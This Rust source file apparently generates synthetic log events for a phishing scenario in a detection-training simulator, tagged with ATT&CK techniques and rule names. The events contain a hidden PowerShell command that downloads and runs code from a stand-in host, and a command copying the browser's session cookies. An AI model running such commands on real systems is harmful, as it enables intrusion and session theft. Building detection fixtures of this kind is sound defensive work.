//! A letter with an archive; its script fetches a program that takes the browser's session, with
//! which somebody comes in through the VPN from another country.

use super::{Script, Story};
use crate::device::firewall::Line;
use crate::device::program::Message;
use crate::device::windows::Event;

pub(super) const STORY: Story = Story {
    id: "phishing",
    title_vi: "Thư lừa đảo lấy phiên đăng nhập",
    title_en: "Phishing that takes a session",
    attack: &["T1566.001", "T1204.002", "T1059.001", "T1105", "T1539", "T1078", "T1133"],
    rules: &[
        "network/vpn_from_two_countries",
        "windows/browser_passwords_read",
        "windows/powershell_download_and_run",
        "windows/script_from_archive",
    ],
    steps,
};

fn steps(script: &mut Script<'_>) {
    let seat = script.seat("pc-vptu", 0);
    let (user, attacker) = (seat.user.clone(), script.attacker());
    let home = format!("C:\\Users\\{user}");
    script.log("vpn", 0.0, Line::vpn("tunnel-up", &user, "198.51.100.77", "Viet Nam"));
    let mail = script.host("mail");
    let queue = script.random.hex(10).to_uppercase();
    let letter =
        format!("{queue}: from=<thu-moi@hop-truc-tuyen.test>, size=48213, nrcpt=1 (queue active)");
    script.log("mail", 5.0, Message::new(&mail, "postfix/qmgr", Some(402), letter));
    let delivered = format!(
        "{queue}: to=<{user}@minhhoa.example>, relay=mail-01.minhhoa.example[private/dovecot-lmtp], delay=0.4, dsn=2.0.0, status=sent (250 2.0.0 Saved)"
    );
    script.log("mail", 5.4, Message::new(&mail, "postfix/lmtp", Some(9120), delivered));
    let browser = "C:\\Program Files\\Browser\\Application\\browser.exe";
    script.log(
        "pc-vptu",
        40.0,
        Event::file(&seat, browser, &format!("{home}\\Downloads\\Giay-moi-hop.zip")),
    );
    let wscript = "C:\\Windows\\System32\\wscript.exe";
    let command = format!(
        "\"{wscript}\" \"{home}\\AppData\\Local\\Temp\\Temp1_Giay-moi-hop.zip\\Giay-moi-hop.js\""
    );
    script.log(
        "pc-vptu",
        52.0,
        Event::process(&seat, "C:\\Windows\\explorer.exe", wscript, &command),
    );
    let powershell = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe";
    let command = "powershell.exe -w hidden -c IEX (New-Object Net.WebClient).DownloadString('http://cap-nhat.test/a')";
    script.log("pc-vptu", 54.0, Event::process(&seat, wscript, powershell, command));
    script.log(
        "pc-vptu",
        54.5,
        Event::query(&seat, powershell, "cap-nhat.test", &format!("::ffff:{attacker};")),
    );
    script.log(
        "pc-vptu",
        55.0,
        Event::connection(&seat, powershell, &attacker, "cap-nhat.test", "80"),
    );
    let cmd = "C:\\Windows\\System32\\cmd.exe";
    let command = format!(
        "cmd.exe /c copy \"{home}\\AppData\\Local\\Browser\\User Data\\Default\\Network\\Cookies\" {home}\\AppData\\Local\\Temp\\c.dat"
    );
    script.log("pc-vptu", 80.0, Event::process(&seat, powershell, cmd, &command));
    script.log("vpn", 150.0, Line::vpn("tunnel-up", &user, &attacker, "Netherlands"));
}
